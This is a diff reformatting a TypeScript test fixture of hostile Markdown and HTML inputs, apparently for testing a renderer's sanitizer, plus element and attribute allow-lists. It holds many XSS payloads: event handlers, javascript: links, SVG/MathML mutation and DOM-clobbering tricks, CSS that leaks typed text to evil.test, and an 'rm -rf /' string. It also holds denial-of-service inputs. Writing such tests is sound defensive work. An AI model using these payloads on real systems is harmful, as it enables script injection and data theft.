@@ -13,78 +13,212 @@ export const hostileHtml: readonly HostilePiece[] = [
   { name: 'script of a module', text: '<script type="module" src="https://evil.test/m.js"></script>' },
   { name: 'image with a handler', text: `<img src=x onerror="${evil}">` },
   { name: 'handler without quotes and with a slash', text: `<img/src=x/onerror=${evil}>` },
-  { name: 'picture with sources', text: '<picture><source srcset="https://evil.test/s.png"><img srcset="https://evil.test/t.png 1x"></picture>' },
-  { name: 'SVG', text: `<svg onload="${evil}"><script>${evil}</script><use href="https://evil.test/u.svg#a"/><animate onbegin="${evil}" attributeName=x dur=1s></svg>` },
-  { name: 'SVG with foreign content', text: `<svg><foreignObject><img src=x onerror="${evil}"></foreignObject><a xlink:href="javascript:${evil}"><text>x</text></a></svg>` },
-  { name: 'MathML that mutates', text: `<math><mtext><table><mglyph><style><img src=x onerror="${evil}"></style></mglyph></table></mtext></math>` },
-  { name: 'MathML that mutates in a form', text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${evil}"></style></mglyph></form>` },
-  { name: 'MathML annotation', text: `<math><annotation-xml encoding="text/html"><img src=x onerror="${evil}"></annotation-xml></math>` },
-  { name: 'links and overlays', text: `<a href="javascript:${evil}">x</a><a data-href="src/a.ts" style="position:fixed;inset:0" onclick="${evil}">y</a>` },
-  { name: 'style sheet with import', text: '<style>@import "https://evil.test/a.css"; body{background:url(https://evil.test/b.png)}</style>' },
-  { name: 'style sheet that reads what is typed', text: '<style>textarea[value^="a"]{background:url(https://evil.test/?a)}</style><style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>' },
-  { name: 'style in an attribute', text: '<p style="background:url(https://evil.test/s.png);position:fixed;inset:0">over everything</p>' },
-  { name: 'linked sheet and base', text: '<link rel=stylesheet href="https://evil.test/c.css"><link rel=prefetch href="https://evil.test/p"><base href="https://evil.test/">' },
-  { name: 'frames', text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><object data="https://evil.test/d"></object><embed src="https://evil.test/e">` },
-  { name: 'form', text: `<form action="https://evil.test/f"><input type=submit name=ownerDocument><button formaction="javascript:${evil}">z</button></form>` },
-  { name: 'form that clobbers', text: '<form id=body><input name=firstChild><input name=attributes><input name=parentNode></form><img name=createElement>' },
-  { name: 'refresh and media', text: '<meta http-equiv=refresh content="0;url=https://evil.test/g"><video src="https://evil.test/h" poster="https://evil.test/i"></video><audio src="https://evil.test/k" autoplay>' },
-  { name: 'names and toggles', text: `<p id=root class="hljs-x" name=posted>kept</p><details open ontoggle="${evil}">w</details>` },
+  {
+    name: 'picture with sources',
+    text: '<picture><source srcset="https://evil.test/s.png"><img srcset="https://evil.test/t.png 1x"></picture>',
+  },
+  {
+    name: 'SVG',
+    text: `<svg onload="${evil}"><script>${evil}</script><use href="https://evil.test/u.svg#a"/><animate onbegin="${evil}" attributeName=x dur=1s></svg>`,
+  },
+  {
+    name: 'SVG with foreign content',
+    text: `<svg><foreignObject><img src=x onerror="${evil}"></foreignObject><a xlink:href="javascript:${evil}"><text>x</text></a></svg>`,
+  },
+  {
+    name: 'MathML that mutates',
+    text: `<math><mtext><table><mglyph><style><img src=x onerror="${evil}"></style></mglyph></table></mtext></math>`,
+  },
+  {
+    name: 'MathML that mutates in a form',
+    text: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${evil}"></style></mglyph></form>`,
+  },
+  {
+    name: 'MathML annotation',
+    text: `<math><annotation-xml encoding="text/html"><img src=x onerror="${evil}"></annotation-xml></math>`,
+  },
+  {
+    name: 'links and overlays',
+    text: `<a href="javascript:${evil}">x</a><a data-href="src/a.ts" style="position:fixed;inset:0" onclick="${evil}">y</a>`,
+  },
+  {
+    name: 'style sheet with import',
+    text: '<style>@import "https://evil.test/a.css"; body{background:url(https://evil.test/b.png)}</style>',
+  },
+  {
+    name: 'style sheet that reads what is typed',
+    text: '<style>textarea[value^="a"]{background:url(https://evil.test/?a)}</style><style>@font-face{font-family:x;src:url(https://evil.test/f)}*{font-family:x}</style>',
+  },
+  {
+    name: 'style in an attribute',
+    text: '<p style="background:url(https://evil.test/s.png);position:fixed;inset:0">over everything</p>',
+  },
+  {
+    name: 'linked sheet and base',
+    text: '<link rel=stylesheet href="https://evil.test/c.css"><link rel=prefetch href="https://evil.test/p"><base href="https://evil.test/">',
+  },
+  {
+    name: 'frames',
+    text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><object data="https://evil.test/d"></object><embed src="https://evil.test/e">`,
+  },
+  {
+    name: 'form',
+    text: `<form action="https://evil.test/f"><input type=submit name=ownerDocument><button formaction="javascript:${evil}">z</button></form>`,
+  },
+  {
+    name: 'form that clobbers',
+    text: '<form id=body><input name=firstChild><input name=attributes><input name=parentNode></form><img name=createElement>',
+  },
+  {
+    name: 'refresh and media',
+    text: '<meta http-equiv=refresh content="0;url=https://evil.test/g"><video src="https://evil.test/h" poster="https://evil.test/i"></video><audio src="https://evil.test/k" autoplay>',
+  },
+  {
+    name: 'names and toggles',
+    text: `<p id=root class="hljs-x" name=posted>kept</p><details open ontoggle="${evil}">w</details>`,
+  },
   { name: 'noscript', text: `<noscript><p title="</noscript><img src=x onerror=${evil}>"></noscript>` },
-  { name: 'template and obsolete text elements', text: `<template><script>${evil}</script></template><xmp><script>${evil}</script></xmp><plaintext>${evil}` },
+  {
+    name: 'template and obsolete text elements',
+    text: `<template><script>${evil}</script></template><xmp><script>${evil}</script></xmp><plaintext>${evil}`,
+  },
   { name: 'comment that ends early', text: `<!--><img src=x onerror=${evil}>-->` },
   { name: 'comment that never ends', text: `<!-- <img src=x onerror=${evil}>` },
   { name: 'CDATA', text: `<![CDATA[<img src=x onerror=${evil}>]]>` },
-  { name: 'processing instruction and doctype', text: `<?xml-stylesheet href="javascript:${evil}"?><!DOCTYPE html [<!ENTITY x "${evil}">]>&x;` },
-  { name: 'unknown element and a shadow root', text: `<x-evil onclick=${evil} is=script><template shadowrootmode=open><img src=x onerror=${evil}></template></x-evil>` },
-  { name: 'title that closes a textarea', text: `<textarea></textarea><img src=x onerror=${evil}></textarea><title></title><img src=x onerror=${evil}>` },
-  { name: 'popover and its button', text: `<button popovertarget=p onclick=${evil}>x</button><div popover id=p onbeforetoggle=${evil}>over everything</div>` },
+  {
+    name: 'processing instruction and doctype',
+    text: `<?xml-stylesheet href="javascript:${evil}"?><!DOCTYPE html [<!ENTITY x "${evil}">]>&x;`,
+  },
+  {
+    name: 'unknown element and a shadow root',
+    text: `<x-evil onclick=${evil} is=script><template shadowrootmode=open><img src=x onerror=${evil}></template></x-evil>`,
+  },
+  {
+    name: 'title that closes a textarea',
+    text: `<textarea></textarea><img src=x onerror=${evil}></textarea><title></title><img src=x onerror=${evil}>`,
+  },
+  {
+    name: 'popover and its button',
+    text: `<button popovertarget=p onclick=${evil}>x</button><div popover id=p onbeforetoggle=${evil}>over everything</div>`,
+  },
 ];
 
 const links: readonly HostilePiece[] = [
   { name: 'link that runs', text: `[a](javascript:${evil})` },
   { name: 'link that runs, in capitals and with blanks', text: `[a]( JaVaScRiPt:${evil} )` },
-  { name: 'link that runs, with a tab, a null and a line end written out', text: `[a](java&Tab;script:${evil}) [b](java\u0000script:${evil}) [c](java&NewLine;script:${evil})` },
+  {
+    name: 'link that runs, with a tab, a null and a line end written out',
+    text: `[a](java&Tab;script:${evil}) [b](java\u0000script:${evil}) [c](java&NewLine;script:${evil})`,
+  },
   { name: 'link that runs, in entities', text: `[a](&#106;&#97;vascript:${evil}) [b](&#x6A;avascript&colon;${evil})` },
   { name: 'link that runs, between angle brackets', text: `<javascript:${evil}> [a](<javascript:${evil}>)` },
-  { name: 'commands of the editor', text: '[a](command:workbench.action.quit) [b](vscode://settings) [c](vscode-insiders:x) [d](vscode-file://x/y) [e](vscode-webview://x)' },
-  { name: 'data, blob and file', text: '[a](data:text/html,<script>1</script>) [b](blob:https://evil.test/1) [c](file:///etc/passwd) [d](filesystem:https://evil.test/x)' },
+  {
+    name: 'commands of the editor',
+    text: '[a](command:workbench.action.quit) [b](vscode://settings) [c](vscode-insiders:x) [d](vscode-file://x/y) [e](vscode-webview://x)',
+  },
+  {
+    name: 'data, blob and file',
+    text: '[a](data:text/html,<script>1</script>) [b](blob:https://evil.test/1) [c](file:///etc/passwd) [d](filesystem:https://evil.test/x)',
+  },
   { name: 'network paths', text: '[a](//evil.test/x) [b](\\\\evil.test\\share) [c](/\\evil.test)' },
-  { name: 'pictures', text: '![a](https://evil.test/j.png) ![b](data:image/svg+xml,<svg onload=window.pwned=1>) ![c](javascript:window.pwned=1) ![d](//evil.test/k.png)' },
-  { name: 'attribute that breaks out of a link', text: `[a]( "onmouseover=${evil}) [b](x "\\" onfocus=${evil} autofocus=\\"") [c](x '"><img src=x onerror=${evil}>')` },
+  {
+    name: 'pictures',
+    text: '![a](https://evil.test/j.png) ![b](data:image/svg+xml,<svg onload=window.pwned=1>) ![c](javascript:window.pwned=1) ![d](//evil.test/k.png)',
+  },
+  {
+    name: 'attribute that breaks out of a link',
+    text: `[a]( "onmouseover=${evil}) [b](x "\\" onfocus=${evil} autofocus=\\"") [c](x '"><img src=x onerror=${evil}>')`,
+  },
   { name: 'definition that runs', text: `[r]: javascript:${evil} "x"\n\n[r] ![r] [text][r]` },
   { name: 'definition that is redefined', text: '[r]: https://example.com\n[r]: javascript:window.pwned=1\n\n[r]' },
-  { name: 'definitions by the thousand', text: Array.from({ length: 3000 }, (_, index) => `[d${index}]: https://evil.test/${index}\n`).join('') + '\n[d1] [d2999]' },
+  {
+    name: 'definitions by the thousand',
+    text:
+      Array.from({ length: 3000 }, (_, index) => `[d${index}]: https://evil.test/${index}\n`).join('') +
+      '\n[d1] [d2999]',
+  },
   { name: 'definition that names itself', text: `${'[a]: [a]\n'.repeat(50)}\n[a][a][a]` },
-  { name: 'homograph', text: '[paypal.com](https://xn--pypal-4ve.com/) https://раураl.com/ [x](https://ｅｖｉｌ.test/)' },
-  { name: 'text that reads like another address', text: '[https://github.com/login](https://evil.test/login) [github.com](https://evil.test)' },
-  { name: 'autolinks with names and passwords', text: '<https://github.com@evil.test/> https://user:secret@evil.test/ [x](https://github.com%2f@evil.test)' },
-  { name: 'bidi and zero width in a target', text: '[a](https://evil.test/\u202egnp.exe) [b](java\u200bscript:window.pwned=1) [c](https://evil\u2066.test\u2069/)' },
+  {
+    name: 'homograph',
+    text: '[paypal.com](https://xn--pypal-4ve.com/) https://раураl.com/ [x](https://ｅｖｉｌ.test/)',
+  },
+  {
+    name: 'text that reads like another address',
+    text: '[https://github.com/login](https://evil.test/login) [github.com](https://evil.test)',
+  },
+  {
+    name: 'autolinks with names and passwords',
+    text: '<https://github.com@evil.test/> https://user:secret@evil.test/ [x](https://github.com%2f@evil.test)',
+  },
+  {
+    name: 'bidi and zero width in a target',
+    text: '[a](https://evil.test/\u202egnp.exe) [b](java\u200bscript:window.pwned=1) [c](https://evil\u2066.test\u2069/)',
+  },
   { name: 'mail with more than an address', text: '[a](mailto:x@evil.test?attach=/etc/passwd) <x@evil.test>' },
 ];
 
 const text: readonly HostilePiece[] = [
-  { name: 'bidi and zero width in text', text: 'evil\u202egnp.exe\u2066 zero\u200bwidth \u2067back\u2069 `rm\u200b -rf \u202e/`' },
+  {
+    name: 'bidi and zero width in text',
+    text: 'evil\u202egnp.exe\u2066 zero\u200bwidth \u2067back\u2069 `rm\u200b -rf \u202e/`',
+  },
   { name: 'signs that stack', text: `Z${'\u0335\u0321\u0489'.repeat(3000)}` },
   { name: 'lone surrogates and nulls', text: 'a\ud800b\udc00c \u0000d\u0000 `\ud83d` **\udfff**\n\n# \u0000' },
-  { name: 'every control character', text: Array.from({ length: 160 }, (_, code) => `x${String.fromCharCode(code)}y `).join('') },
-  { name: 'entities', text: '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62; &#x3c;svg onload=window.pwned=1&#x3e; &nbsp;&bogus;&#0;&#x110000;' },
-  { name: 'info string that breaks out', text: `\`\`\`html"><img src=x onerror=${evil}>\n<img src=x onerror=${evil}>\n\`\`\`` },
-  { name: 'info string with attributes', text: `\`\`\`js title="x" onclick="${evil}" style=position:fixed\n1\n\`\`\`\n\n~~~ " onfocus=${evil} x="\n2\n~~~` },
+  {
+    name: 'every control character',
+    text: Array.from({ length: 160 }, (_, code) => `x${String.fromCharCode(code)}y `).join(''),
+  },
+  {
+    name: 'entities',
+    text: '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62; &#x3c;svg onload=window.pwned=1&#x3e; &nbsp;&bogus;&#0;&#x110000;',
+  },
+  {
+    name: 'info string that breaks out',
+    text: `\`\`\`html"><img src=x onerror=${evil}>\n<img src=x onerror=${evil}>\n\`\`\``,
+  },
+  {
+    name: 'info string with attributes',
+    text: `\`\`\`js title="x" onclick="${evil}" style=position:fixed\n1\n\`\`\`\n\n~~~ " onfocus=${evil} x="\n2\n~~~`,
+  },
   { name: 'info string that is long', text: `\`\`\`${'x'.repeat(50_000)}\n1\n\`\`\`` },
-  { name: 'info string that is a prototype', text: '```__proto__\n1\n```\n\n```constructor\n1\n```\n\n```toString title=__proto__\n1\n```' },
-  { name: 'math with HTML', text: `$<img src=x onerror=${evil}>$ $$<script>${evil}</script>$$\n\n$$\n<img src=x onerror=${evil}>\n$$\n\n\\(<svg onload=${evil}>\\) \\[</p><img src=x onerror=${evil}>\\]` },
-  { name: 'math that never closes', text: `${'$x '.repeat(5000)}\n\n$$\n${'a_b\n'.repeat(3000)}\n\n${'\\( '.repeat(5000)}` },
-  { name: 'names that look like paths', text: `${'../'.repeat(500)}etc/passwd.txt \`../../etc/passwd\` \`__proto__\` \`constructor\` \`toString()\` ${'a/'.repeat(2000)}b.ts:1` },
-  { name: 'footnotes and directives', text: `[^1]: javascript:${evil}\n\n[^1] :::danger\n<b onclick=${evil}>x</b>\n:::` },
-  { name: 'front matter', text: `---\nonload: ${evil}\n---\n\n{{constructor.constructor('${evil}')()}} \${${evil}} <%= ${evil} %>` },
+  {
+    name: 'info string that is a prototype',
+    text: '```__proto__\n1\n```\n\n```constructor\n1\n```\n\n```toString title=__proto__\n1\n```',
+  },
+  {
+    name: 'math with HTML',
+    text: `$<img src=x onerror=${evil}>$ $$<script>${evil}</script>$$\n\n$$\n<img src=x onerror=${evil}>\n$$\n\n\\(<svg onload=${evil}>\\) \\[</p><img src=x onerror=${evil}>\\]`,
+  },
+  {
+    name: 'math that never closes',
+    text: `${'$x '.repeat(5000)}\n\n$$\n${'a_b\n'.repeat(3000)}\n\n${'\\( '.repeat(5000)}`,
+  },
+  {
+    name: 'names that look like paths',
+    text: `${'../'.repeat(500)}etc/passwd.txt \`../../etc/passwd\` \`__proto__\` \`constructor\` \`toString()\` ${'a/'.repeat(2000)}b.ts:1`,
+  },
+  {
+    name: 'footnotes and directives',
+    text: `[^1]: javascript:${evil}\n\n[^1] :::danger\n<b onclick=${evil}>x</b>\n:::`,
+  },
+  {
+    name: 'front matter',
+    text: `---\nonload: ${evil}\n---\n\n{{constructor.constructor('${evil}')()}} \${${evil}} <%= ${evil} %>`,
+  },
   { name: 'task list with HTML', text: `- [x] <input autofocus onfocus=${evil}>\n- [ ] [a](javascript:${evil})` },
-  { name: 'table with HTML', text: `| <img src=x onerror=${evil}> | [a](javascript:${evil}) |\n|---|:-:|\n| \`|\` | <td onclick=${evil}> |` },
+  {
+    name: 'table with HTML',
+    text: `| <img src=x onerror=${evil}> | [a](javascript:${evil}) |\n|---|:-:|\n| \`|\` | <td onclick=${evil}> |`,
+  },
 ];
 
 const endless: readonly HostilePiece[] = [
   { name: 'quotes in quotes', text: `${'> '.repeat(10_000)}deep` },
   { name: 'quotes in quotes, not quite as deep', text: `${'> '.repeat(39)}deep\n`.repeat(50) },
-  { name: 'lists in lists', text: Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}\n`).join('') },
+  {
+    name: 'lists in lists',
+    text: Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- ${depth}\n`).join(''),
+  },
   { name: 'lists on one line', text: `${'- '.repeat(10_000)}deep` },
   { name: 'brackets', text: '['.repeat(10_000) },
   { name: 'brackets in pairs', text: `${'['.repeat(1500)}a${']'.repeat(1500)}` },
@@ -103,8 +237,14 @@ const endless: readonly HostilePiece[] = [
   { name: 'angle brackets', text: '<'.repeat(50_000) },
   { name: 'tags that never close', text: '<a '.repeat(5000) },
   { name: 'comments that never close', text: '<!-- '.repeat(5000) },
-  { name: 'addresses', text: `http://${'a.'.repeat(3000)} ${'www.'.repeat(3000)} ${'a@'.repeat(3000)} ${'x'.repeat(20_000)}@` },
-  { name: 'table of 200 columns and 1,000 rows', text: `|${' a |'.repeat(200)}\n|${'---|'.repeat(200)}\n${`|${' b |'.repeat(200)}\n`.repeat(1000)}` },
+  {
+    name: 'addresses',
+    text: `http://${'a.'.repeat(3000)} ${'www.'.repeat(3000)} ${'a@'.repeat(3000)} ${'x'.repeat(20_000)}@`,
+  },
+  {
+    name: 'table of 200 columns and 1,000 rows',
+    text: `|${' a |'.repeat(200)}\n|${'---|'.repeat(200)}\n${`|${' b |'.repeat(200)}\n`.repeat(1000)}`,
+  },
   { name: 'table on one line', text: `|${' a |'.repeat(400)}\n|${'---|'.repeat(400)}\n|${' b |'.repeat(400)}` },
   { name: 'table that is none', text: `${'|'.repeat(20_000)}\n${'|-'.repeat(1000)}` },
   { name: 'words by the megabyte', text: 'x'.repeat(1_000_000) },
@@ -116,5 +256,7 @@ const endless: readonly HostilePiece[] = [
 export const hostileMarkdown: readonly HostilePiece[] = [...hostileHtml, ...links, ...text, ...endless];
 
 /** Every element that Markdown or what stands around it makes. */
-export const allowedElements = /^(?:a|blockquote|br|button|code|del|div|em|h[1-6]|hr|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;
-export const allowedAttributes = /^(?:align|aria-label|aria-pressed|checked|class|data-(?:host|href|info|language|symbol|words)|disabled|role|start|tabindex|title|type)$/;
+export const allowedElements =
+  /^(?:a|blockquote|br|button|code|del|div|em|h[1-6]|hr|input|li|ol|p|pre|span|strong|table|tbody|td|th|thead|tr|ul)$/;
+export const allowedAttributes =
+  /^(?:align|aria-label|aria-pressed|checked|class|data-(?:host|href|info|language|symbol|words)|disabled|role|start|tabindex|title|type)$/;
